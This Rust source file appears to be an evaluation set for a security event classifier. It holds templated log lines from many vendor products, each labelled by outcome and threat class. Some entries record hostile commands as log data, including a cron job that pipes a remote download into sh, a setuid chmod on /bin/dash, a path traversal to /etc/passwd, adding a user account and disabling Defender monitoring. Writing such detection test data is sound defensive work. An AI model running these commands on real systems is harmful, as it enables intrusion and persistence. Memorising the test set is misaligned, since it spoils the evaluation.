//! Sets written after the rules that they measured first.

use vedette_event::ThreatClass::{
    BruteForce, CommandAndControl, DefenseEvasion, DenialOfService, Exfiltration, Exploitation,
    LateralMovement, Malware, Persistence, Phishing, PolicyViolation, PrivilegeEscalation,
    Ransomware, Reconnaissance, WebAttack,
};

use super::{Act, Contained, Expected, Faulty, Human, Story};

/// Written after the rules, from other products again; see the documentation for what was measured first.
pub(crate) const WRITTEN_AFTER: &[Story] = &[
    (
        Contained,
        Reconnaissance,
        &[
            "1,2026/11/04 02:11:04,007,TRAFFIC,drop,2561,{ip},{lan},0.0.0.0,0.0.0.0,intrazone-default,,,not-applicable,vsys1,untrust,trust,reset-both",
        ],
    ),
    (
        Contained,
        WebAttack,
        &[
            "{host} ASM:attack_type=\"SQL-Injection\",ip_client=\"{ip}\",request_status=\"blocked\",uri=\"/login\"",
        ],
    ),
    (
        Contained,
        Malware,
        &[
            "SEP: Virus found,IP Address: {lan},Computer name: {host},Risk name: Trojan.Gen,Actual action: Cleaned by deletion,Requested action: Cleaned",
        ],
    ),
    (
        Contained,
        Malware,
        &[
            "{\"event_simpleName\":\"DetectionSummary\",\"ComputerName\":\"{host}\",\"UserName\":\"{user}\",\"PatternDispositionDescription\":\"Prevention, process was blocked from execution.\"}",
        ],
    ),
    (
        Contained,
        BruteForce,
        &[
            "{host} sshd[31]: Invalid user oracle from {ip} port 5101",
            "{host} sshd[33]: Invalid user test from {ip} port 5102",
            "{host} sshguard[8]: Blocking \"{ip}/32\" for 120 secs (3 attacks in 41 secs)",
        ],
    ),
    (
        Contained,
        Phishing,
        &[
            "{\"Workload\":\"ThreatIntelligence\",\"Operation\":\"AirInvestigationData\",\"DeliveryAction\":\"Blocked\",\"Verdict\":\"Phish\",\"Recipients\":\"{user}@example.com\"}",
        ],
    ),
    (
        Contained,
        CommandAndControl,
        &["{host} unbound: [77:0] info: c3.{domain}. always_nxdomain {lan}@5011 c3.{domain}. A IN"],
    ),
    (
        Contained,
        Exploitation,
        &[
            "id=firewall sn=00A sev=1 msg=\"IPS Prevention Alert: WEB-ATTACKS exploit\" src={ip}:4411 dst={lan}:443 note=\"dropped\"",
        ],
    ),
    (
        Contained,
        Exfiltration,
        &[
            "{\"product\":\"dlp\",\"policy\":\"customer data\",\"user\":\"{user}\",\"host\":\"{host}\",\"outcome\":\"upload prevented\"}",
        ],
    ),
    (
        Act,
        BruteForce,
        &[
            "{host} vsftpd[9]: [{user}] FAIL LOGIN: Client \"{ip}\"",
            "{host} vsftpd[9]: [{user}] OK LOGIN: Client \"{ip}\"",
        ],
    ),
    (
        Act,
        WebAttack,
        &[
            "{host} php-fpm[3]: WARNING: child said: sh: 1: nc: connection to {ip} opened from /var/www/tmp/x.php",
        ],
    ),
    (
        Act,
        Ransomware,
        &[
            "{\"EventID\":11,\"Computer\":\"{host}\",\"Image\":\"C:\\\\Users\\\\Public\\\\u.exe\",\"TargetFilename\":\"C:\\\\Share\\\\HOW_TO_DECRYPT.txt\"}",
        ],
    ),
    (
        Act,
        Malware,
        &[
            "SEP: Virus found,IP Address: {lan},Computer name: {host},Risk name: Trojan.Gen,Actual action: Left alone,Requested action: Cleaned",
        ],
    ),
    (
        Act,
        CommandAndControl,
        &[
            "{\"event_type\":\"alert\",\"src_ip\":\"{lan}\",\"dest_ip\":\"{ip}\",\"alert\":{\"action\":\"allowed\",\"signature\":\"MALWARE CnC checkin\"}}",
        ],
    ),
    (
        Act,
        PrivilegeEscalation,
        &[
            "{host} audit[5]: USER_CMD pid=911 uid=33 auid=33 ses=4 msg='cwd=\"/tmp\" cmd=\"chmod u+s /bin/dash\" res=success'",
        ],
    ),
    (
        Act,
        Persistence,
        &[
            "{host} crontab[77]: (www-data) REPLACE (www-data)",
            "{host} CRON[79]: (www-data) CMD (curl -s http://{domain}/k | sh)",
        ],
    ),
    (
        Act,
        LateralMovement,
        &[
            "{\"EventID\":4648,\"Computer\":\"{host}\",\"SubjectUserName\":\"{user}\",\"TargetUserName\":\"administrator\",\"TargetServerName\":\"dc1\"}",
            "{\"EventID\":5145,\"Computer\":\"dc1\",\"SubjectUserName\":\"administrator\",\"ShareName\":\"ADMIN$\",\"IpAddress\":\"{lan}\"}",
        ],
    ),
    (
        Act,
        DefenseEvasion,
        &[
            "{\"EventID\":1,\"Computer\":\"{host}\",\"User\":\"{user}\",\"CommandLine\":\"Set-MpPreference -DisableRealtimeMonitoring $true\"}",
        ],
    ),
    (
        Act,
        Exfiltration,
        &[
            "id=firewall sn=00A msg=\"Connection Closed\" src={lan}:5011 dst={ip}:21 proto=tcp/ftp sent=911822110 rcvd=4100",
        ],
    ),
    (
        Expected,
        Reconnaissance,
        &[
            "{lan} - - [04/Nov/2026:01:00:04 +0000] \"GET /manager/html HTTP/1.1\" 404 153 \"-\" \"Acunetix-Product\"",
        ],
    ),
    (
        Expected,
        Exfiltration,
        &[
            "{host} borg[7]: Creating archive at \"ssh://{lan}/repo::nightly\", Duration: 8 minutes, terminating with success status",
        ],
    ),
    (
        Expected,
        LateralMovement,
        &[
            "{host} WinRM: session by sccm-svc from {lan}: software deployment package 7zip completed",
        ],
    ),
    (
        Expected,
        Persistence,
        &["{host} dpkg: status installed cron:amd64 3.0pl1-137 by unattended-upgrades"],
    ),
    (
        Expected,
        DefenseEvasion,
        &[
            "{\"EventID\":1036,\"Channel\":\"Application\",\"Provider\":\"MsiInstaller\",\"Computer\":\"{host}\",\"Message\":\"endpoint agent update completed by the management server\"}",
        ],
    ),
    (
        Faulty,
        BruteForce,
        &[
            "{host} smbd[4]: check_ntlm_password: Authentication for user [scan-to-folder] FAILED with error NT_STATUS_PASSWORD_EXPIRED from {lan}",
        ],
    ),
    (
        Faulty,
        BruteForce,
        &[
            "{host} winbindd[2]: kinit failed: Preauthentication failed: keytab is out of date, host {lan}",
        ],
    ),
    (Faulty, DenialOfService, &["{host} kernel: Out of memory: Killed process 811 (mysqld)"]),
    (
        Faulty,
        CommandAndControl,
        &["{host} ntpd[3]: no server suitable for synchronization found, {lan} unreachable"],
    ),
    (Faulty, Reconnaissance, &["{host} dhcpd: DHCPDECLINE of {lan}: duplicate address detected"]),
    (
        Human,
        LateralMovement,
        &[
            "{host} sshd[71]: pam_unix(sshd:session): session opened for user {user}(uid=1001) by (uid=0)",
        ],
    ),
    (
        Human,
        PolicyViolation,
        &[
            "{host} proxy: user={user} src={lan} category=\"file sharing\" host=files.{domain} action=allowed bytes=911200",
        ],
    ),
    (
        Human,
        PrivilegeEscalation,
        &[
            "{\"EventID\":4672,\"Computer\":\"{host}\",\"SubjectUserName\":\"{user}\",\"PrivilegeList\":\"SeBackupPrivilege\"}",
        ],
    ),
];

/// Written after the rules were made to speak of words and no longer of products.
pub(crate) const FRESH: &[Story] = &[
    (
        Contained,
        Reconnaissance,
        &[
            "{host} firewall,info input: in:ether1 out:(unknown), connection-state:new proto TCP (SYN), {ip}:5011->{lan}:8291, dropped",
        ],
    ),
    (
        Contained,
        WebAttack,
        &[
            "CEF:0|Imperva|SecureSphere|14|Custom|SQL injection|High|act=Block src={ip} dst={lan} request=/a?id\\=1",
        ],
    ),
    (
        Contained,
        Malware,
        &[
            "CEF:0|Trend Micro|Apex One|14|AV|Malware detected|8|cs1Label=VLF_FirstActionResult cs1=File quarantined shost={host} suser={user}",
        ],
    ),
    (
        Contained,
        Malware,
        &[
            "{\"type\":\"CB_ANALYTICS\",\"device_name\":\"{host}\",\"device_username\":\"{user}\",\"sensor_action\":\"TERMINATE\",\"reason\":\"The application was terminated by policy\"}",
        ],
    ),
    (
        Contained,
        Phishing,
        &[
            "{\"datatype\":\"receipt\",\"Act\":\"Rej\",\"Sender\":\"a@{domain}\",\"Rcpt\":\"{user}@example.com\",\"RejType\":\"Malware\"}",
        ],
    ),
    (
        Contained,
        CommandAndControl,
        &[
            "{\"action\":\"Blocked\",\"identity\":\"{host}\",\"internalIp\":\"{lan}\",\"domain\":\"c9.{domain}\",\"categories\":\"Command and Control\"}",
        ],
    ),
    (
        Contained,
        BruteForce,
        &[
            "{host} synolog: User [{user}] from [{ip}] failed to log in via [DSM] due to authorization failure.",
            "{host} synolog: Host [{ip}] was blocked via [DSM].",
        ],
    ),
    (
        Contained,
        Exploitation,
        &[
            "{host} SFIMS: Protocol: TCP, SrcIP: {ip}, DstIP: {lan}, IngressZone: outside, InlineResult: Blocked, Message: SERVER-WEBAPP attempt",
        ],
    ),
    (
        Act,
        BruteForce,
        &[
            "{\"eventType\":\"user.session.start\",\"outcome\":{\"result\":\"FAILURE\"},\"actor\":\"{user}\",\"ip\":\"{ip}\"}",
            "{\"eventType\":\"user.session.start\",\"outcome\":{\"result\":\"SUCCESS\"},\"actor\":\"{user}\",\"ip\":\"{ip}\"}",
        ],
    ),
    (
        Act,
        WebAttack,
        &[
            "{ip} - - [05/Nov/2026:02:11:04 +0000] \"GET /download?f=../../../../etc/passwd HTTP/1.1\" 200 1822 \"-\" \"curl/8\"",
        ],
    ),
    (
        Act,
        Ransomware,
        &[
            "{host} qlogd: Users: {user}, Source IP: {lan}, Accessed resources: Share/a.docx -> Share/a.docx.crypt, Action: Rename",
        ],
    ),
    (
        Act,
        Malware,
        &["{host} kav: Object detected: HEUR:Trojan.Script, result: not disinfected, user: {user}"],
    ),
    (
        Act,
        CommandAndControl,
        &[
            "1,2026/11/04 02:11:04,007,THREAT,spyware,2561,{lan},{ip},0.0.0.0,0.0.0.0,allow-out,,,web-browsing,vsys1,trust,untrust,alert",
        ],
    ),
    (
        Act,
        Persistence,
        &[
            "{\"EventID\":13,\"Computer\":\"{host}\",\"TargetObject\":\"HKU\\\\S-1\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run\\\\upd\",\"Details\":\"C:\\\\Users\\\\Public\\\\upd.exe\"}",
        ],
    ),
    (
        Act,
        PrivilegeEscalation,
        &[
            "{\"eventName\":\"AttachUserPolicy\",\"userIdentity\":{\"userName\":\"{user}\"},\"sourceIPAddress\":\"{ip}\",\"requestParameters\":{\"policyArn\":\"arn:aws:iam::aws:policy/AdministratorAccess\"}}",
        ],
    ),
    (
        Act,
        DefenseEvasion,
        &[
            "{\"eventName\":\"StopLogging\",\"userIdentity\":{\"userName\":\"{user}\"},\"sourceIPAddress\":\"{ip}\"}",
        ],
    ),
    (
        Act,
        LateralMovement,
        &[
            "{\"EventID\":1,\"Computer\":\"{host}\",\"ParentImage\":\"WmiPrvSE.exe\",\"CommandLine\":\"cmd /c net user helper P@ss /add\",\"User\":\"{user}\"}",
        ],
    ),
    (
        Act,
        Exfiltration,
        &[
            "{host} zscaler: user={user} url=drop.{domain} action=Allowed requestsize=881223411 threatname=None",
        ],
    ),
    (
        Expected,
        Reconnaissance,
        &["{host} greenbone: scan task weekly-lan from {lan} started by administrator"],
    ),
    (
        Expected,
        Exfiltration,
        &["{host} bareos-dir: Job weekly-full from {lan}: Termination: Backup OK, 91 GB"],
    ),
    (
        Expected,
        DefenseEvasion,
        &["{host} clamd: Database correctly reloaded, freshclam daily.cld updated"],
    ),
    (Expected, LateralMovement, &["{host} vpxd: vMotion of vm-81 to host {lan} completed by DRS"]),
    (
        Expected,
        BruteForce,
        &[
            "{host} sshd[61]: Connection closed by {lan} port 50311 [preauth]",
            "{host} telegraf: net_response probe {lan}:22 success",
        ],
    ),
    (
        Faulty,
        BruteForce,
        &[
            "{\"EventID\":4625,\"Computer\":\"{host}\",\"TargetUserName\":\"svc-sql\",\"IpAddress\":\"{lan}\",\"SubStatus\":\"0xC0000064\"}",
            "{\"EventID\":4625,\"Computer\":\"{host}\",\"TargetUserName\":\"svc-sql\",\"IpAddress\":\"{lan}\",\"SubStatus\":\"0xC0000064\"}",
        ],
    ),
    (Faulty, DenialOfService, &["{host} mysqld: Too many connections from {lan}"]),
    (Faulty, CommandAndControl, &["{host} chronyd: Can't synchronise: no selectable sources"]),
    (
        Faulty,
        Reconnaissance,
        &[
            "{host} switchd: %SW_MATM-4-MACFLAP_NOTIF: Host 0000.1111.2222 in vlan 4 is flapping between port 1 and port 2",
        ],
    ),
    (
        Human,
        LateralMovement,
        &[
            "{\"eventtype\":\"authentication\",\"factor\":\"push\",\"result\":\"success\",\"username\":\"{user}\",\"ip\":\"{ip}\"}",
        ],
    ),
    (
        Human,
        PolicyViolation,
        &[
            "{\"name\":\"download\",\"actor\":\"{user}@example.com\",\"doc_title\":\"plan\",\"visibility\":\"people_with_link\"}",
        ],
    ),
];
